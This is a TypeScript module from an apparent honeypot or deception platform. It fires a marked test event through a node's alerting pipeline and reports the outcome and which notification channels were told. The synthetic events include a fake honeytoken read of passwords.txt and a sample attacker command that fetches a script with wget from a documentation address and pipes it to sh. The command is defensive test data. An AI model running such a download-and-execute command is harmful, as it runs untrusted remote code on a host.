/** “Test this node”: a marked event on the way of all others, told to nobody as if it were real. */

import { toPrediction } from '../contract/judgement.ts';
import type { NodeTested } from '../contract/node-test.ts';
import { checkNodeState } from '../core/access.ts';
import { AppError, notFound } from '../core/errors.ts';
import type { DraftEvent } from '../core/event.ts';
import type { RandomHex } from '../core/ids.ts';
import type { NodeRecord } from '../core/node.ts';
import type { EventPipeline, TestedEvent } from '../core/pipeline.ts';
import type { Store, TenantStore } from '../core/store.ts';
import { type Send, testNotice } from '../notify/delivery/sender.ts';
import { countMessage } from './message-limit.ts';

export interface NodeTestParts {
  tenant: Pick<TenantStore, 'node'>;
  store: Pick<Store, 'addToRateLimit'>;
  pipeline: Pick<EventPipeline, 'test'>;
  messaging: { send: Send };
  lastSeen: { flush(): Promise<void> };
  now(): string;
  clock(): number;
  randomHex: RandomHex;
}

/** Of the block that is set aside for documentation (RFC 3849), another one each time: no real source is like it. */
const newSource = (randomHex: RandomHex): string =>
  `2001:db8:${[1, 2, 3, 4].map(() => (0x1000 + (Number.parseInt(randomHex(2), 16) & 0xfff)).toString(16)).join(':')}::1`;

/** What an attack on such a node looks like, so that it is risky by all ordinary settings. */
function toDraft(node: NodeRecord, nowIso: string, randomHex: RandomHex): DraftEvent {
  const shared = { event_id: null, timestamp: nowIso, extra: null, session: null } as const;
  if (node.agent !== null) {
    const file_path = '/srv/decoyverse-test/passwords.txt';
    return {
      ...shared,
      kind: 'file.opened',
      collection: 'agent_events',
      service: 'endpoint_agent',
      source_ip: `decoyverse-test-${randomHex(4)}`,
      activity: 'file_accessed',
      payload: 'passwords.txt',
      agent: {
        hostname: `decoyverse-test-${randomHex(4)}`,
        username: 'decoyverse-test',
        file_accessed: 'passwords.txt',
        file_path,
        action: 'read',
        severity: 'CRITICAL',
        alert_type: 'honeytoken_access',
      },
    };
  }
  return {
    ...shared,
    kind: 'command.run',
    collection: 'honeypot_logs',
    service: 'ssh',
    source_ip: newSource(randomHex),
    activity: 'command',
    payload: 'wget -qO- http://192.0.2.1/decoyverse-test.sh | sh',
    agent: null,
  };
}

const outcomeOf = ({ event }: TestedEvent): NodeTested['outcome'] =>
  event.suppressed_by !== null ? 'suppressed' : event.alert_created ? 'alert' : 'below_threshold';

/**
 * Throws `not_found`; `conflict` for an inactive node, whose events are refused; `too_many_requests` above ten tests a
 * minute for the tenant; and `unavailable` where the store does not answer.
 */
export async function testNode(
  parts: NodeTestParts,
  { id, user_id, by, notify }: { id: string; user_id: string; by: string; notify: boolean },
): Promise<NodeTested> {
  const { tenant, store, pipeline, messaging, now, clock, randomHex } = parts;
  await parts.lastSeen.flush();
  const node = await tenant.node(id);
  if (node === null) throw notFound('Node');
  const testedAt = now();
  try {
    checkNodeState(node, 'events', testedAt);
    // The key is its parent's.
    const parent = node.parent_id === null ? node : await tenant.node(node.parent_id);
    if (parent === null) throw notFound('Node');
    checkNodeState(parent, 'events', testedAt);
  } catch {
    throw new AppError('conflict', 'The node is inactive, so its events are refused: activate it first');
  }
  await countMessage(store, { what: 'node_test', user_id }, clock());
  const startedMs = performance.now();
  const sinceStart = (): number => Math.round((performance.now() - startedMs) * 100) / 100;
  const tested = await pipeline.test({ user_id, node_id: id }, toDraft(node, testedAt, randomHex));
  const { event, stages, threshold } = tested;

  async function send(config: TestedEvent['channels'][number]['config']) {
    await countMessage(store, { what: 'test', user_id }, clock());
    const notice = {
      ...testNotice(testedAt, null),
      title: `This is a test of the node “${node!.name}”: an alert from it would arrive here.`,
      reasons: [`${by} tested the node. Nothing happened to it.`],
      node_id: id,
      node_name: node!.name,
    };
    const { ok, status, error } = await messaging.send({
      config,
      notice,
      delivery_id: `msg_${randomHex(12)}`,
      user_id,
    });
    return { ok, status, error, after_ms: sinceStart() };
  }
  const channels = await Promise.all(
    tested.channels.map(async ({ config, told_ms }) => ({
      id: config.id,
      name: config.name,
      channel: config.channel,
      notified:
        told_ms === null
          ? ('no' as const)
          : told_ms > clock()
            ? ('after_quiet_hours' as const)
            : ('now' as const),
      notified_at: told_ms !== null && told_ms > clock() ? new Date(told_ms).toISOString() : null,
      sent: notify && told_ms !== null ? await send(config).catch(toUnsent(sinceStart)) : null,
    })),
  );
  const { kind, service, source_ip, payload } = event;
  return {
    node_id: id,
    tested_at: testedAt,
    last_seen: node.last_seen,
    event: { kind, service, source_ip, payload },
    stages,
    ml_prediction: toPrediction(event.verdict!),
    threshold,
    outcome: outcomeOf(tested),
    suppressed_by: event.suppressed_by,
    channels,
  };
}

/** More channels than messages a minute: those that were told are no less true. */
const toUnsent =
  (sinceStart: () => number) =>
  (error: unknown): { ok: false; status: null; error: string; after_ms: number } => {
    if (!(error instanceof AppError)) throw error;
    return { ok: false, status: null, error: error.message, after_ms: sinceStart() };
  };
